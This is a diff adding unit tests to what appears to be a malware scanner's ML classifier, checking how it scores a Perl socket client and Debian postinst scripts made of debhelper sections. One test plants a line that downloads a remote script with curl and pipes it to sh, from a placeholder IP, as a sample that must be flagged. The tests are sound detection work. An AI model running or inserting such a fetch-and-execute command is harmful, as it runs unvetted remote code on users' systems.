@@ -64,6 +64,30 @@ describe('ml on partial coverage', () => {
     });
   });
 
+  describe('code the model was not trained on (issue 30)', () => {
+    const scan = async (text: string, name: string) => ml.scan(await subjectOf(Buffer.from(text), name), ctx());
+    const probability = (out: { report?: unknown }) => (out.report as { ml: { probability: number } }).ml.probability;
+    const client = "use strict;\nuse IO::Socket::INET;\nmy $sock = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp') or die \"connect: $!\";\nprint $sock \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (my $line = <$sock>) {\n    print $line;\n}\n";
+    it('a Perl program (shebang or package line) read as text: a sure hit stays low', async () => {
+      for (const text of [`#!/usr/bin/perl\n${client}`, `# example client\npackage Net::Example;\n${client}1;\n`]) {
+        const out = await scan(text, 'client.txt');
+        expect(probability(out)).toBeGreaterThanOrEqual(0.9);
+        expect(out.findings.map((f) => f.severity)).toEqual(['low']);
+      }
+    });
+    // Older debhelper's dh_python3 section: the model scores this very file 0.97.
+    const dh = '# Automatically added by dh_python3:\nif which py3compile >/dev/null 2>&1; then\n\tpy3compile -p python3-ldap3 \nfi\nif which pypy3compile >/dev/null 2>&1; then\n\tpypy3compile -p python3-ldap3  || true\nfi\n\n# End automatically added section\n';
+    it("a maintainer script made only of debhelper's sections is not judged; one line of its own and it is", async () => {
+      const generated = await scan(`#!/bin/sh\nset -e\n\n${dh}`, 'postinst');
+      expect(generated.findings).toEqual([]);
+      expect(generated.note).toMatch(/debhelper/);
+      const added = await scan(`#!/bin/sh\nset -e\n\n${dh}curl -s http://203.0.113.9/x.sh | sh\n`, 'postinst');
+      expect(added.findings.map((f) => [f.id, f.severity])).toEqual([['ml.text.malicious', 'medium']]);
+      // A section left open hides nothing either.
+      expect((await scan(`#!/bin/sh\n# Automatically added by dh_python3\ncurl -s http://203.0.113.9/x.sh | sh\n`, 'postinst')).note).toBeUndefined();
+    });
+  });
+
   it('a document gets the model too (on its printable strings)', async () => {
     const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
     const r = await analyze({ content: pdf, name: 'a.pdf', scanType: 'file' }, deps);
